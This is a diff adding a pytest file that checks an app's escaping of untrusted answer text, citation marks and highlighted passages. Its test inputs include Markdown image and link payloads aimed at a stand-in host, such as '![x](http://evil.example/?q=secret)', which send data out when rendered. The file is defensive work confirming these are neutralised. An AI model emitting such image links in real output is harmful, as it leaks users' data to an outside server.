@@ -1,0 +1,92 @@
+"""Escaping: untrusted text is shown and never interpreted."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from app_pages.escaping import CitationMark, answer_markdown, excerpt, passage_html, plain_markdown
+
+LIVE_LINK = re.compile(r"(?<!\\)(?:\\\\)*!?\[[^\]]*?(?<!\\)(?:\\\\)*\]\s*[\[(:]")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://evil.example/?q=secret)",
+        "[press here](http://evil.example)",
+        r"\[x\](http://evil.example)",
+        r"\\[x\\](http://evil.example)",
+        "![x][ref]\n\n[ref]: http://evil.example/x.png",
+        "`![x](http://evil.example)`",
+        "\\`![x](http://evil.example)\\`",
+        "a ` b\nc `[x](http://evil.example)` d",
+        "a ```\n\n[x]: http://evil.example\n\n![x]\n\n```",
+        "[1](http://evil.example)",
+        "[1][2]: http://evil.example",
+    ],
+)
+def test_no_form_of_link_or_image_survives(text: str) -> None:
+    """Links and images of an answer are shown as they are written, in code as outside it."""
+    assert not LIVE_LINK.search(answer_markdown(text).replace(":primary[", ""))
+
+
+@given(st.text(alphabet="[]()!\\`:\n1ax ", max_size=40))
+def test_no_combination_of_brackets_is_a_link(text: str) -> None:
+    """Whatever brackets, backslashes and code marks are combined, none makes a link or an image."""
+    shown = re.sub(r":primary\[\\\[(\d+)\\\]\]", r"(\1)", answer_markdown(text))
+    assert not LIVE_LINK.search(shown)
+
+
+def test_html_and_formulas_are_escaped() -> None:
+    """HTML and dollar signs of an answer are characters."""
+    shown = answer_markdown("<img src=x> costs $5 and $10")
+    assert shown == r"&lt;img src=x> costs \$5 and \$10"
+
+
+def test_formatting_of_an_answer_is_kept() -> None:
+    """Emphasis, lists, tables, quotations and code of an answer are kept."""
+    text = "**15일**\n\n- a\n\n> b\n\n| a | b |\n|---|---|\n| 1 | `c[0]` |\n\n```\nd[1]\n```"
+    assert answer_markdown(text) == text
+
+
+def test_citations_are_coloured_by_verdict() -> None:
+    """A supported [n] has the accent colour, an unsupported one a question mark."""
+    marks = [CitationMark(2, 1, True), CitationMark(9, 2, False), CitationMark(16, 3, None)]
+    shown = answer_markdown("a [1], b [2], c [3], d[4] `e[1]`.", marks)
+    assert shown == (
+        r"a :primary[\[1\]], b :orange-background[\[2?\]], "
+        r"c :gray-background[\[3\]], d\[4\] `e[1]`."
+    )
+
+
+def test_a_question_is_shown_as_typed() -> None:
+    """No character of a question is read as Markdown."""
+    assert plain_markdown("# *a* [b](c)\n1. :red[x]") == (
+        "\\# \\*a\\* \\[b\\]\\(c\\)  \n1\\. \\:red\\[x\\]"
+    )
+
+
+def test_a_passage_is_escaped_and_marked() -> None:
+    """The cited words are marked, and nothing of the passage is HTML."""
+    html = passage_html("<b>휴학</b>은 7일", [(3, 5), (4, 9)], "ko")
+    assert "<mark>휴학&lt;/b&gt;</mark>은 7일</div>" in html
+    assert "<b>" not in html
+    assert 'lang="ko"' in html
+
+
+@pytest.mark.parametrize("spans", [[(-5, 2)], [(1, 999)], [(3, 1)]], ids=["low", "high", "crossed"])
+def test_spans_outside_the_passage_are_clipped(spans: list[tuple[int, int]]) -> None:
+    """The text of the passage stays complete."""
+    html = passage_html("abc", spans)
+    assert re.sub(r"<[^>]+>", "", html) == "abc"
+
+
+def test_an_excerpt_keeps_the_cited_words() -> None:
+    """A long passage is cut around its citation, and the span moves along."""
+    text = "가" * 2000 + "바로 여기" + "나" * 2000
+    cut, spans = excerpt(text, [(2000, 2005)], around=100)
+    assert len(cut) < 400
+    assert [cut[start:end] for start, end in spans] == ["바로 여기"]
+    assert cut.startswith("… ") and cut.endswith(" …")
